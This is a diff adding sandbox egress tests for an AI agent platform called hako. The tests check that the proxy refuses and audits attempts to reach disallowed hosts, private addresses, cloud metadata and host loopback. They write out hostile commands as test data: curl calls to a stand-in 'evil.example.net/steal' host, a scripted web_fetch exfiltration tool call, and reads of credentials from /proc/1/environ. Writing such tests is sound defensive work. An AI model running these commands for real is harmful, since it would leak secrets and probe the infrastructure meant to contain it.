@@ -246,3 +246,78 @@ describe('resources', () => {
     assert.ok(mb <= 16, `at most the 16 MiB limit was written, got ${mb}`);
   });
 });
+
+describe('egress through the proxy', () => {
+  function egressRecords(): { group: string; data: { allowed: boolean; host: string; reason?: string } }[] {
+    return f.hako.logEvents().filter((e) => e.msg === 'egress refused' || e.msg === 'egress allowed') as never;
+  }
+
+  test('attack 20 - reach a domain that is not on the group\'s allowlist, over HTTP and HTTPS', async () => {
+    const out = await attack(f, 'team', [
+      'curl -s -m 10 http://evil.example.net/steal; echo " rc=$?"',
+      'curl -s -m 10 https://evil.example.net/steal 2>&1; echo " rc=$?"',
+    ]);
+    assert.match(out[0]!, /hako refused evil\.example\.net:80: .*allowlist/i);
+    assert.match(out[1]!, /rc=56|403|CONNECT/i, 'the tunnel was refused');
+    const refused = f.hako.logEvents().filter((e) => e.msg === 'egress refused' && e.host === 'evil.example.net');
+    assert.equal(refused.length, 2, 'both attempts were decided and logged');
+  });
+
+  test('attack 21 - reach a private address and the cloud metadata address through the proxy', async () => {
+    const out = await attack(f, 'team', [
+      'curl -s -m 10 http://10.0.0.1/; echo; curl -s -m 10 http://169.254.169.254/latest/meta-data/; echo; curl -s -m 10 "http://[fd00:ec2::254]/"; echo; curl -s -m 10 https://192.168.1.1/ 2>&1; echo " rc=$?"',
+    ]);
+    assert.match(out[0]!, /hako refused 10\.0\.0\.1:80: .*private/i);
+    assert.match(out[0]!, /hako refused 169\.254\.169\.254:80: .*metadata/i);
+    assert.match(out[0]!, /hako refused .*fd00:ec2::254.*metadata/i);
+    assert.match(out[0]!, /rc=56/, 'the HTTPS tunnel to a private address was refused');
+  });
+
+  test('attack 22 - reach the host\'s loopback through the proxy, by address and by a name that resolves to it', async () => {
+    const out = await attack(f, 'team', [
+      `curl -s -m 10 --noproxy '' http://127.0.0.1:${f.hako.port}/api/status; echo; curl -s -m 10 --noproxy '' http://127.0.0.1/; echo`,
+      // localhost is on this group's allowlist and port 80 is allowed: only the address check stands.
+      `curl -s -m 10 --noproxy '' http://localhost/; echo`,
+    ]);
+    assert.match(out[0]!, /hako refused 127\.0\.0\.1:\d+: .*port/i);
+    assert.match(out[0]!, /hako refused 127\.0\.0\.1:80: .*loopback/i);
+    assert.match(out[1]!, /hako refused localhost:80: .*loopback/i, 'a name that resolves to loopback is refused after resolution');
+    assert.doesNotMatch(out.join(''), /maxContainers|startedAt/, 'the host API never answered');
+  });
+
+  test('attack 23 - the web_fetch tool obeys the same allowlist', async () => {
+    const from = f.model.requests.length;
+    f.model.script({ toolCalls: [{ name: 'web_fetch', args: { url: 'https://evil.example.net/exfil?data=secret' } }] }, { text: 'attack finished' });
+    const id = await f.hako.post('team', '@hako fetch it');
+    await f.hako.waitForReplies('team', id);
+    const seen = seenByModel(f, from);
+    assert.match(seen, /hako refused evil\.example\.net:443/);
+  });
+
+  test('attack 24 - read a credential: the container holds only its placeholder, the value is nowhere', async () => {
+    const from = f.model.requests.length;
+    const out = await attack(f, 'team', ['echo "TOKEN=$TOKEN HAKO_SECRETS=$HAKO_SECRETS"', 'cat /proc/1/environ | tr "\\0" "\\n" | grep -c TOKEN']);
+    assert.match(out[0]!, /TOKEN=hako-secret:TOKEN HAKO_SECRETS=TOKEN/);
+    assert.ok(!seenByModel(f, from).includes(`${f.canary.text}-config`), 'the value never reached the model');
+    const { execFileSync } = await import('node:child_process');
+    const name = execFileSync('docker', ['ps', '--filter', `label=dev.hako.home=${f.hako.home}`, '--filter', 'label=dev.hako.group=team', '--format', '{{.Names}}'], { encoding: 'utf8' }).trim();
+    assert.ok(name);
+    assert.ok(!execFileSync('docker', ['inspect', name], { encoding: 'utf8' }).includes(`${f.canary.text}-config`), 'not in docker inspect');
+    const logs = fs.readFileSync(path.join(f.hako.home, 'logs', 'hako.log'), 'utf8');
+    assert.ok(!logs.includes(`${f.canary.text}-config`), 'not in the host log');
+    const audit = await f.hako.cli(['audit', '--json', '--limit', '10000']);
+    assert.ok(!audit.stdout.includes(`${f.canary.text}-config`), 'not in the audit log');
+  });
+
+  test('attack 25 - every egress decision is in the audit log, and the chain verifies', async () => {
+    await attack(f, 'team', [
+      "for u in http://evil.example.net/ http://10.0.0.1/ http://169.254.169.254/ http://127.0.0.1/ http://localhost/; do curl -s -m 10 --noproxy '' $u; echo; done",
+    ]);
+    const audit = JSON.parse((await f.hako.cli(['audit', '--kind', 'egress', '--json', '--limit', '10000'])).stdout) as { group: string; data: { allowed: boolean; host: string } }[];
+    const hosts = new Set(audit.filter((r) => r.group === 'team' && r.data.allowed === false).map((r) => r.data.host));
+    for (const h of ['evil.example.net', '10.0.0.1', '169.254.169.254', '127.0.0.1', 'localhost']) assert.ok(hosts.has(h), `audited: ${h}`);
+    assert.equal(egressRecords().filter((e) => (e as unknown as { msg: string }).msg === 'egress allowed').length, 0, 'nothing was let out');
+    const verify = await f.hako.cli(['audit', 'verify']);
+    assert.equal(verify.code, 0, verify.stdout + verify.stderr);
+  });
+});
